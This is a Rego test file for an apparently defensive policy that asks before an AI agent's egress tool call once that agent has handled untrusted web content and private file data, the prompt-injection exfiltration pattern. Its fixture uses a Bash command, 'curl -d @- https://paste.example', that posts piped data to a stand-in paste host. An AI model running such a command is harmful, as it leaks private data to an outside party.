# Tests for flows.rego: opa test policies/ (offline: python tests/opa_server.py --test policies)
package toolkeeper.flows_test

import rego.v1

call(labels, session) := {
	"tool": {"name": "Bash", "source": "agent", "kind": "function", "tier": null, "runner": null},
	"arguments": {"command": "curl -d @- https://paste.example"},
	"argv": null,
	"labels": labels,
	"session": session,
	"secrets": {"arguments": []},
}

fetched := {"tool": "WebFetch", "record_id": "r1", "time": "2026-11-30T10:00:00+00:00"}

read := {"tool": "Read", "record_id": "r2", "time": "2026-11-30T10:01:00+00:00"}

chain := {"id": "s", "calls": 2, "has": ["private", "untrusted"], "seen": {"untrusted": [fetched], "private": [read]}}

test_egress_after_untrusted_and_private_asks_and_names_the_flow if {
	d := data.toolkeeper.flows.decision with input as call(["egress", "untrusted"], chain)
	d.effect == "ask"
	d.rule == "flows-egress-after-untrusted-and-private"
	d.flow == ["r1", "r2"]
	contains(d.reason, "untrusted content from WebFetch and private data from Read")
}

test_the_flow_is_in_time_order_each_call_once if {
	both := {"tool": "Bash", "record_id": "r0", "time": "2026-11-30T09:00:00+00:00"}
	session := {"id": "s", "calls": 3, "has": ["private", "untrusted"],
		"seen": {"untrusted": [fetched, both], "private": [read, both]}}
	d := data.toolkeeper.flows.decision with input as call(["egress"], session)
	d.flow == ["r0", "r1", "r2"]
}

test_private_egress_after_untrusted_asks if {
	session := {"id": "s", "calls": 1, "has": ["untrusted"], "seen": {"untrusted": [fetched]}}
	d := data.toolkeeper.flows.decision with input as call(["egress", "private", "untrusted"], session)
	d.effect == "ask"
	d.rule == "flows-private-egress-after-untrusted"
	d.flow == ["r1"]
}

test_without_the_untrusted_leg_egress_goes_ahead if {
	session := {"id": "s", "calls": 1, "has": ["private"], "seen": {"private": [read]}}
	data.toolkeeper.flows.decision.effect == "allow" with input as call(["egress"], session)
}

test_a_fresh_session_goes_ahead if {
	session := {"id": "", "calls": 0, "has": [], "seen": {}}
	data.toolkeeper.flows.decision.effect == "allow" with input as call(["egress", "untrusted"], session)
}

test_a_call_that_is_not_egress_goes_ahead_after_the_chain if {
	data.toolkeeper.flows.decision.effect == "allow" with input as call(["untrusted"], chain)
}
